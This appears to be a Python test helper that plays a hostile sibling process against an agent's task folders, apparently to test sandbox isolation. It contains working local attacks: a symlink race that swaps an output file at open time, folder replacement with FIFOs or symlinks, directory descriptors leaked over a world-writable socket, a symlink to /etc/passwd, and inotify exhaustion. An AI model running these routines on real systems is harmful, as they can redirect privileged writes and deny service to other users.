"""A hostile algorithm that exchanges names in folders of others; runs in a container or as a process of its own.

    sibling.py listen TARGET     wait at /mnt/tmp/door for a folder's descriptor, then exchange `output` in it for a link
    sibling.py leave             hand the own task folder to whoever listens at /mnt/tmp/door, leave an output, and end
    sibling.py serve TARGET USER do one attack for each line `attack folder` on the standard input, as that user

    sibling.py hoard             take every inotify instance of the kernel for this uid, and keep them
    sibling.py watch             make one inotify instance
    sibling.py use               wait at /mnt/tmp/door for a folder's descriptor, and try to make and rename files in it

Needs nothing but Python, since it is also the only file of an image.
"""

import contextlib
import ctypes
import errno
import os
import select
import socket
import sys
import threading
import time
from pathlib import Path

DOOR = "/mnt/tmp/door"
IN_OPEN, IN_DELETE = 0x20, 0x200
FOLDERS = [f"folder-{number:02d}" for number in range(20)]
_LIBC = ctypes.CDLL(None, use_errno=True)


def watch(path, events):
    watching = _LIBC.inotify_init()
    if watching < 0 or _LIBC.inotify_add_watch(watching, os.fsencode(path), events) < 0:
        raise OSError(ctypes.get_errno(), "inotify")
    return watching


def wait_for(watching, seconds=10.0):
    if select.select([watching], [], [], seconds)[0]:
        os.read(watching, 65536)
    os.close(watching)  # the kernel gives a uid few of them


def exchange_output(folder, target, said):
    """Put a link over the output as soon as somebody opens it, which is kept dirty so that a sync takes its time."""
    os.symlink(target, "link", dir_fd=folder)
    stop = threading.Event()
    dirty = threading.Thread(target=keep_dirty, args=(folder, stop))
    dirty.start()
    watching = watch(f"/proc/self/fd/{folder}/output", IN_OPEN)
    said()
    wait_for(watching)
    os.rename("link", "output", src_dir_fd=folder, dst_dir_fd=folder)
    stop.set()
    dirty.join()


def keep_dirty(folder, stop):
    file = os.open("output", os.O_WRONLY, dir_fd=folder)
    while not stop.is_set():
        os.pwrite(file, b"x" * 4096, 0)
        time.sleep(0.0005)
    os.close(file)


def exchange_folders(folder, seen, events, said, replace):
    """Put something else in the place of all folders but the first, as soon as something is done with *seen*."""
    watching = watch(f"/proc/self/fd/{folder}/{seen}", events)
    said()
    wait_for(watching)
    for name in FOLDERS[1:]:
        # the agent may be quicker with some
        with contextlib.suppress(OSError):
            os.rename(name, f"aside-{name}", src_dir_fd=folder, dst_dir_fd=folder)
            replace(name)


def to_pipes(folder, _, said):
    exchange_folders(folder, FOLDERS[0], IN_OPEN, said, lambda name: os.mkfifo(name, dir_fd=folder))


def to_links(folder, target, said):
    exchange_folders(folder, ".", IN_DELETE, said, lambda name: os.symlink(target, name, dir_fd=folder))


ATTACKS = {"output": exchange_output, "pipes": to_pipes, "links": to_links}


def listen(target):
    with leaked() as (folder, caller):
        exchange_output(folder, target, lambda: caller.send(b"!"))
    print("exchanged", flush=True)


@contextlib.contextmanager
def leaked():
    with socket.socket(socket.AF_UNIX) as door:
        door.bind(DOOR)
        os.chmod(DOOR, 0o777)  # noqa: PTH101, S103 - for the sibling, which may be another user
        door.listen()
        caller, _ = door.accept()
        _, descriptors, _, _ = socket.recv_fds(caller, 1, 1)
        yield descriptors[0], caller
        caller.close()


def use():
    attempts = {
        "make": lambda folder: os.open("new", os.O_CREAT | os.O_WRONLY, dir_fd=folder),
        "rename": lambda folder: os.rename("output", "other", src_dir_fd=folder, dst_dir_fd=folder),
        "link": lambda folder: os.symlink("/etc/passwd", "link", dir_fd=folder),
        "read": lambda folder: os.open("input", os.O_RDONLY, dir_fd=folder),
    }
    with leaked() as (folder, caller):
        for name, attempt in attempts.items():
            try:
                attempt(folder)
                print(name, "works", flush=True)
            except OSError as error:
                print(name, errno.errorcode[error.errno], flush=True)
        caller.send(b"!")


def hoard():
    taken = 0
    while _LIBC.inotify_init() >= 0:
        taken += 1
    print(f"took {taken}: {errno.errorcode[ctypes.get_errno()]}", flush=True)
    time.sleep(60)


def watch_once():
    made = _LIBC.inotify_init()
    print("watches" if made >= 0 else errno.errorcode[ctypes.get_errno()], flush=True)


def leave():
    task = next(path.name for path in Path("/mnt/data").glob("task-*"))
    Path(f"/mnt/data/{task}/output").write_bytes(b"harmless" * 100_000)
    with socket.socket(socket.AF_UNIX) as door:
        while True:
            try:
                door.connect(DOOR)
                break
            except OSError:
                time.sleep(0.05)
        folder = os.open(f"/mnt/data/{task}", os.O_RDONLY | os.O_DIRECTORY)
        socket.send_fds(door, [b"!"], [folder])
        door.recv(1)


def serve(target, user):
    for line in sys.stdin:
        attack, path = line.split()
        # the way to the folder is the agent's alone: a container is given the folder as a mount
        os.seteuid(0)
        folder = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
        os.setegid(int(user))
        os.seteuid(int(user))
        ATTACKS[attack](folder, target, lambda: print("ready", flush=True))
        os.close(folder)
        print("done", flush=True)


if __name__ == "__main__":
    does = {"listen": listen, "leave": leave, "serve": serve, "hoard": hoard, "watch": watch_once, "use": use}
    does[sys.argv[1]](*sys.argv[2:])
